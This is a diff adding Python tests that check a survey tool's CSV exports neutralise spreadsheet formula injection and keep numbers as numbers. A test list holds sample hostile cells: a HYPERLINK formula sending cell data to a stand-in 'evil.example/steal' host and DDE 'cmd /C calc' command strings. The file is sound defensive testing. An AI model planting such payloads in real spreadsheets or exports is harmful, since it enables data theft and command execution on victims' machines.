@@ -10,6 +10,7 @@ import json
 import re
 import sqlite3
 import tracemalloc
+from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -176,3 +177,76 @@ async def test_two_hundred_thousand_answers_export_in_flat_memory(make_harness, 
     tracemalloc.stop()
     assert count == 200_000
     assert peak < 16 * 1024 * 1024, peak  # about 25 MB of answers went through
+
+
+FORMULAS = """
+guide: sheet
+version: 1
+title: Spreadsheet
+steps:
+  - id: said
+    ask: Say anything.
+    scrub: false
+  - id: change
+    number: By how many hours did your week change?
+"""
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for your results")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(make_harness):  # type: ignore[no-untyped-def]
+    h: Harness = make_harness(FORMULAS)
+    for n, said in enumerate(HOSTILE):
+        for text in ("/start sheet", said, str(-3 - n)):
+            await h.say(text, user=f"p{n}")
+    loaded = h.library.get("sheet")
+    assert loaded is not None and loaded.guide is not None
+    guide = loaded.guide
+
+    out = io.StringIO()
+    await exports.write_csv(exports.answers(h.storage, guide), out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    said = sorted(r["answer"] for r in rows if r["step"] == "said")
+    # JSON Lines and the FLOIP package carry the answers exactly as given (trimmed).
+    jsonl = io.StringIO()
+    await exports.write_jsonl(exports.answers(h.storage, guide), jsonl)
+    records = [json.loads(line) for line in jsonl.getvalue().splitlines()]
+    given = sorted(r["answer"] for r in records if r["step"] == "said")
+    assert given == sorted(text.strip() for text in HOSTILE)
+    assert sorted(r["answer"] for r in records if r["step"] == "change") == [-7, -6, -5, -4, -3]
+    assert said == sorted("'" + text for text in given)  # shown as typed, never run
+    # Numbers stay numbers: a spreadsheet reads -3 as minus three, not as a formula.
+    assert sorted(r["answer"] for r in rows if r["step"] == "change") == [
+        "-3", "-4", "-5", "-6", "-7"]  # fmt: skip
+
+    wide = io.StringIO()
+    await exports.write_wide_csv(exports.answers(h.storage, guide, by_run=True), guide, wide)
+    wide_rows = list(csv.DictReader(io.StringIO(wide.getvalue())))
+    assert sorted(r["said"] for r in wide_rows) == said
+    assert sorted(r["change"] for r in wide_rows) == ["-3", "-4", "-5", "-6", "-7"]
+
+
+async def test_every_csv_cell_is_neutralised_not_only_answers() -> None:
+    """Steps and languages come from guide authors, and a carriage return, a NUL or a
+    right-to-left override can be in data stored by an older version: every cell gets
+    the same rule."""
+
+    async def rows() -> AsyncIterator[exports.Answer]:
+        yield exports.Answer(START, "=run", "-step", 1, "+who", "ask", "\r=1+1", "@en")
+        yield exports.Answer(START, "run2", "s", 1, "who", "choose_many", ["-a", "b"], "en")
+        yield exports.Answer(START, "run3", "s", 1, "who", "number", -2.5, "en")
+        yield exports.Answer(START, "run4", "s", 1, "who", "ask", "\tx\x00\u202e", "en")
+
+    out = io.StringIO()
+    await exports.write_csv(rows(), out)
+    got = list(csv.reader(io.StringIO(out.getvalue())))[1:]
+    assert got[0] == ["'=run", "'+who", "'-step", "ask", "'=1+1", START.isoformat(), "1",
+                      "'@en"]  # fmt: skip
+    assert got[1][4] == "'-a; b"
+    assert got[2][4] == "-2.5"
+    assert got[3][4] == "'\tx"  # invisible characters kept by older versions are dropped
